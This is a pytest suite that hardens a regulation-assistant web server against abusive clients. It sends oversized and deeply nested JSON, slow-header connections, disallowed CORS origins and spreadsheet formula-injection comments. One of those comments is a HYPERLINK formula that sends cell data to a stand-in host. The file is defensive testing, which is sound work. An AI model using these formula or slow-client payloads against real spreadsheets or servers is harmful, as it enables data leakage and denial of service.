"""A careless or hostile client against the running server: every bad request is a 4xx in
the documented shape, decided before any work, and nothing it sends is kept unbounded."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest

from assistant.surfaces.feedback import inert
from assistant.surfaces.launch import local_server

FOLLOW_UP = "那土地呢？"
HEADER_TIMEOUT = 2  # seconds; the default is 10
ALLOWED_ORIGIN = "https://allowed.example"
FINANCING = "企业融资有什么支持？"


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    folder = tmp_path_factory.mktemp("bounds")
    home = folder / "home"
    env = {"TIAOLI_HOME": str(home), "TIAOLI_HEADER_TIMEOUT": str(HEADER_TIMEOUT),
           "TIAOLI_CORS_ORIGINS": ALLOWED_ORIGIN}
    with local_server(folder / "server.log", env) as running:
        yield running.url, home


@pytest.fixture(scope="module")
def server(served: tuple[str, Path]) -> str:
    return served[0]


def _ask(server: str, **body: object) -> httpx.Response:
    return httpx.post(f"{server}/api/ask", json=body, timeout=120)


def _v1(server: str, **body: object) -> httpx.Response:
    return httpx.post(f"{server}/v1/chat/completions", json={"model": "tiaoli", **body},
                      timeout=120)


# ------------------------------------------------------------ bounded work


def test_a_follow_up_with_a_huge_turn_is_refused_before_any_work(server: str) -> None:
    r = _ask(server, question=FOLLOW_UP,
             history=[{"role": "user", "content": FINANCING * 2000}])  # 20,000 characters
    assert r.status_code == 400
    assert "turn 1 of the conversation, a question, is 20,000 characters" in r.json()["error"]


def test_an_earlier_question_is_held_to_the_question_limit(server: str) -> None:
    r = _ask(server, question=FOLLOW_UP,
             history=[{"role": "user", "content": FINANCING * 700},  # 7,000: a turn fits
                      {"role": "assistant", "content": "本条例未对此作出规定。"}])
    assert r.status_code == 400
    assert "turn 1 of the conversation, a question, is 7,000 characters" in r.json()["error"]


def test_a_follow_up_rewritten_past_the_limit_is_refused(server: str) -> None:
    earlier = (FINANCING * 200)[:1999]  # a question just inside the limit
    r = _ask(server, question="那人才培养和引进方面呢？",
             history=[{"role": "user", "content": earlier}])
    assert r.status_code == 400
    assert re.match(r"the follow-up, read with the conversation, is 2,0\d\d characters long; "
                    r"the limit is 2,000", r.json()["error"])


def test_a_conversation_too_long_in_all_is_refused(server: str) -> None:
    turns = [{"role": "user", "content": "第十七条讲什么？"},
             {"role": "assistant", "content": "制造业" * 2000}] * 7  # each fits; not together
    r = _ask(server, question="第十八条呢？", history=turns)
    assert r.status_code == 400
    assert "the conversation is 42,056 characters long" in r.json()["error"]


def test_v1_caps_every_message(server: str) -> None:
    r = _v1(server, messages=[{"role": "user", "content": FINANCING * 4000},  # 40,000
                              {"role": "assistant", "content": "…"},
                              {"role": "user", "content": FOLLOW_UP}])
    assert r.status_code == 400
    assert "turn 1 of the conversation" in r.json()["error"]["message"]


def test_a_question_past_the_embedding_window_says_so(server: str) -> None:
    question = "县级以上人民政府应当如何保障制造业用地？" * 80  # 1,600 characters, ~800 tokens
    r = _ask(server, question=question)
    assert r.status_code == 200
    assert any("window of 512 tokens" in n for n in r.json()["notes"])


# --------------------------------------------------------------- bodies


def test_a_body_past_the_cap_is_413_before_parsing(server: str) -> None:
    r = httpx.post(f"{server}/api/ask", timeout=60, headers={"content-type": "application/json"},
                   content=json.dumps({"question": "第十七条" + "x" * 2_000_000}))
    assert r.status_code == 413
    assert "larger than 1,048,576 bytes" in r.json()["error"]


def test_an_unused_field_does_not_carry_megabytes(server: str) -> None:
    r = _ask(server, question="第十七条讲什么？", padding="x" * 1_500_000)
    assert r.status_code == 413


def test_a_chunked_body_past_the_cap_is_413(server: str) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"question": "'
        for _ in range(40):
            yield b"x" * 50_000
        yield b'"}'

    r = httpx.post(f"{server}/api/ask", content=chunks(), timeout=60,
                   headers={"content-type": "application/json"})
    assert r.status_code == 413


@pytest.mark.parametrize("extra", [
    pytest.param({"citations": [{"article": 1, "paragraph": 1, "label": "x", "zh": "x",
                                 "en": "x"}] * 21}, id="too-many-citations"),
    pytest.param({"citations": [{"article": 1, "paragraph": 1, "label": "x",
                                 "zh": "条" * 10_001, "en": "x"}]}, id="citation-too-long"),
    pytest.param({"mode": "m" * 201}, id="mode-too-long"),
    pytest.param({"answer": "a" * 30_001}, id="answer-too-long"),
])
def test_feedback_fields_are_capped(server: str, extra: dict[str, object]) -> None:
    body = {"rating": "up", "question": "q", "answer": "a", **extra}
    r = httpx.post(f"{server}/api/feedback", json=body, timeout=60)
    assert r.status_code == 422
    assert "error" in r.json()


def test_gradio_upload_route_is_closed(server: str) -> None:
    r = httpx.post(f"{server}/gradio_api/upload", files={"files": ("a.bin", b"x" * 1000)},
                   timeout=60)
    assert r.status_code == 404
    assert r.json()["hint"].startswith("the page takes no uploads")


def test_feedback_export_neutralises_formulas(served: tuple[str, Path]) -> None:
    server, home = served
    comments = ['=HYPERLINK("http://example.invalid/?"&A1,"Click")', "+1", "-1+2", "@SUM(A1)"]
    for comment in comments:
        r = httpx.post(f"{server}/api/feedback", json={
            "rating": "down", "question": "q", "answer": "a", "comment": comment}, timeout=60)
        assert r.status_code == 200
    out = subprocess.run([sys.executable, "-m", "assistant", "feedback", "export", "--csv"],
                         capture_output=True, text=True, check=True,
                         env={**os.environ, "TIAOLI_HOME": str(home)}).stdout
    cells = [row["comment"] for row in csv.DictReader(io.StringIO(out))]
    assert sorted(cells) == sorted("'" + c for c in comments)


@pytest.mark.parametrize(("cell", "shown"), [
    pytest.param("\tx", "'\tx", id="tab"), pytest.param("\r=1", "'\r=1", id="cr"),
    pytest.param("a=1", "a=1", id="plain"), pytest.param(3, 3, id="number"),
])
def test_inert_cells(cell: object, shown: object) -> None:
    assert inert(cell) == shown


# ---------------------------------------------------------- input errors


def test_a_lone_surrogate_is_answered_not_a_500(server: str) -> None:
    raw = '{"question": "\\ud800 第十七条讲什么？"}'
    r = httpx.post(f"{server}/api/ask", content=raw, timeout=60,
                   headers={"content-type": "application/json"})
    assert r.status_code == 200
    assert r.json()["citations"][0]["article"] == 17
    r = httpx.post(f"{server}/v1/chat/completions", timeout=60,
                   headers={"content-type": "application/json"},
                   content='{"messages": [{"role": "user", "content": "\\udc00第十七条"}]}')
    assert r.status_code == 200


def test_deep_json_is_400(server: str) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    for path in ("/v1/chat/completions", "/api/ask"):
        r = httpx.post(f"{server}{path}", content=deep, timeout=60,
                       headers={"content-type": "application/json"})
        assert r.status_code in (400, 422), (path, r.status_code)


@pytest.mark.parametrize(("body", "param"), [
    pytest.param({"stream": "false"}, "stream", id="stream-as-string"),
    pytest.param({"n": 3}, "n", id="n-3"),
    pytest.param({"tools": [{"type": "function", "function": {"name": "f"}}]}, "tools",
                 id="tools"),
])
def test_v1_refuses_what_it_cannot_honour(server: str, body: dict[str, object],
                                          param: str) -> None:
    r = _v1(server, messages=[{"role": "user", "content": "第十七条讲什么？"}], **body)
    assert r.status_code == 400
    assert r.json()["error"]["param"] == param


def test_v1_serves_one_model_and_reports_usage(server: str) -> None:
    r = httpx.get(f"{server}/v1/models/tiaoli", timeout=60)
    assert r.status_code == 200
    assert r.json()["id"] == "tiaoli"
    missing = httpx.get(f"{server}/v1/models/gpt-4", timeout=60)
    assert missing.status_code == 404
    assert missing.json()["error"]["code"] == "model_not_found"
    reply = _v1(server, messages=[{"role": "user", "content": "第十七条讲什么？"}]).json()
    assert reply["usage"]["unit"] == "characters"
    assert reply["usage"]["prompt_tokens"] == len("第十七条讲什么？")
    assert reply["usage"]["completion_tokens"] == len(reply["choices"][0]["message"]["content"])


def test_a_streamed_user_error_gets_its_status(server: str) -> None:
    r = _v1(server, messages=[{"role": "user", "content": "？？？"}], stream=True)
    assert r.status_code == 400
    assert "no words" in r.json()["error"]["message"]


@pytest.mark.parametrize(("method", "path", "shape"), [
    pytest.param("GET", "/no/such/page", "api", id="unknown-path"),
    pytest.param("GET", "/api/nothing", "api", id="unknown-api-route"),
    pytest.param("DELETE", "/api/ask", "api", id="wrong-method"),
    pytest.param("GET", "/v1/nothing", "openai", id="unknown-v1-route"),
    pytest.param("GET", "/v1/chat/completions", "openai", id="v1-wrong-method"),
])
def test_unknown_routes_and_methods_get_the_documented_shape(
        server: str, method: str, path: str, shape: str) -> None:
    r = httpx.request(method, f"{server}{path}", timeout=60)
    assert r.status_code in (404, 405)
    data = r.json()
    if shape == "openai":
        assert set(data["error"]) == {"message", "type", "param", "code"}
    else:
        assert set(data) == {"error", "hint"}
        assert data["hint"]


@pytest.mark.parametrize("path", ["/api/ask", "/v1/chat/completions"])
def test_json_without_its_content_type_is_415_with_the_fix(server: str, path: str) -> None:
    r = httpx.post(f"{server}{path}", timeout=60, headers={"content-type": "text/plain"},
                   content=json.dumps({"question": "第十七条讲什么？",
                                       "messages": [{"role": "user", "content": "第十七条"}]}))
    assert r.status_code == 415
    assert "application/json" in json.dumps(r.json())


def test_docs_load_nothing_from_outside(server: str) -> None:
    page = httpx.get(f"{server}/docs", timeout=60)
    assert page.status_code == 200
    linked = re.findall(r"""(?:src|href)=["']([^"']+)""", page.text) + re.findall(
        r"""url:\s*['"]([^'"]+)""", page.text)
    assert linked
    assert [u for u in linked if u.startswith(("http:", "https:", "//"))] == []
    for asset in ("swagger-ui-bundle.js", "swagger-ui.css"):
        assert httpx.get(f"{server}/docs-assets/{asset}", timeout=60).status_code == 200


# ------------------------------------------------------------ slow clients, CORS, logs


def _held(server: str, send: Callable[[socket.socket], None]) -> bytes:
    """What the server says to a client that sends ``send``'s bytes and then waits: the
    socket's whole input until the server closes it (a 60 s wait is the server not
    closing it: the test then fails with socket.timeout)."""
    host, port = server.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=60) as sock:
        send(sock)
        said = b""
        while chunk := sock.recv(4096):
            said += chunk
        return said


def test_a_client_that_never_sends_its_headers_is_let_go(server: str) -> None:
    def trickle(sock: socket.socket) -> None:
        for piece in (b"GET /healthz HTTP/1.1\r\n", b"Host: 127.0.0.1\r\n", b"X-Slow: 1"):
            sock.sendall(piece)
            time.sleep(HEADER_TIMEOUT / 3)
    said = _held(server, trickle)
    assert said.startswith(b"HTTP/1.1 408 ")
    assert b"did not arrive within" in said


def test_an_idle_connection_is_closed(server: str) -> None:
    assert _held(server, lambda sock: None).startswith(b"HTTP/1.1 408 ")


def test_the_second_request_on_a_connection_has_its_own_deadline(server: str) -> None:
    def one_then_silence(sock: socket.socket) -> None:
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        time.sleep(0.5)
        sock.sendall(b"GET /healthz HTTP/1.1\r\n")  # and no more
    said = _held(server, one_then_silence)
    assert said.startswith(b"HTTP/1.1 200 ")
    assert b"HTTP/1.1 408 " in said  # the keep-alive timer alone never ends a started head


def test_cors_is_off_except_for_listed_origins(server: str) -> None:
    for origin in ("http://localhost:9999", "http://127.0.0.1:8000", "null"):
        r = httpx.get(f"{server}/api/regulations", headers={"origin": origin}, timeout=60)
        assert r.status_code == 200
        assert "access-control-allow-origin" not in r.headers
        assert "access-control-allow-credentials" not in r.headers
        page = httpx.get(f"{server}/config", headers={"origin": origin}, timeout=60)
        assert "access-control-allow-origin" not in page.headers  # Gradio's routes too
        pre = httpx.options(f"{server}/api/ask", timeout=60, headers={
            "origin": origin, "access-control-request-method": "POST"})
        assert "access-control-allow-origin" not in pre.headers
    r = httpx.get(f"{server}/api/regulations", headers={"origin": ALLOWED_ORIGIN}, timeout=60)
    assert r.headers["access-control-allow-origin"] == ALLOWED_ORIGIN
    assert "access-control-allow-credentials" not in r.headers
    pre = httpx.options(f"{server}/api/ask", timeout=60, headers={
        "origin": ALLOWED_ORIGIN, "access-control-request-method": "POST",
        "access-control-request-headers": "content-type"})
    assert pre.status_code == 200
    assert pre.headers["access-control-allow-origin"] == ALLOWED_ORIGIN


def _page_error(server: str, api_name: str, *args: object) -> str:
    """The message the page's event ``api_name`` shows for these inputs."""
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    client = Client(server, verbose=False)
    with pytest.raises(AppError) as raised:
        client.predict(*args, api_name=api_name)
    return str(raised.value)


def test_a_user_error_on_the_page_is_one_log_line(served: tuple[str, Path]) -> None:
    server, home = served
    log = home.parent / "server.log"
    before = log.read_text(encoding="utf-8")
    said = _page_error(server, "/respond", "   ", [], "自动 Auto", None)
    assert "Please type a question" in said
    for _ in range(50):  # the log line is written as the error is sent
        added = log.read_text(encoding="utf-8")[len(before):]
        if "refused:" in added:
            break
        time.sleep(0.1)
    lines = [line for line in added.splitlines() if line.strip()]
    assert len(lines) == 1, added
    assert "refused: " in lines[0]
    assert "Traceback" not in added


def test_a_payload_the_page_cannot_read_shows_no_python_internals(server: str) -> None:
    said = _page_error(server, "/show_article", "not a number", None)
    for internal in ("Original error", "ValueError", "Traceback", "Could not preprocess"):
        assert internal not in said
